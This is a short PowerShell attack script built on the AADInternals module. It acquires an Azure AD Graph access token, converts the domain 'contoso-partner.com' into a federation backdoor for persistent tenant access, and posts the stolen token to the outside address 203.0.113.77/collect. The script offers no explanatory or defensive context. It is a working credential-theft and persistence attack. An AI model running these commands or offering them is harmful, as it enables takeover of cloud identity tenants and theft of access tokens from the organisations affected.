Import-Module AADInternals
$tenant = "8a7b6c5d-1234-4abc-9def-0123456789ab"
$at = Get-AADIntAccessTokenForAADGraph -SaveToCache
ConvertTo-AADIntBackdoor -AccessToken $at -DomainName "contoso-partner.com"
Invoke-WebRequest -Uri "http://203.0.113.77/collect" -Method Post -Body $at
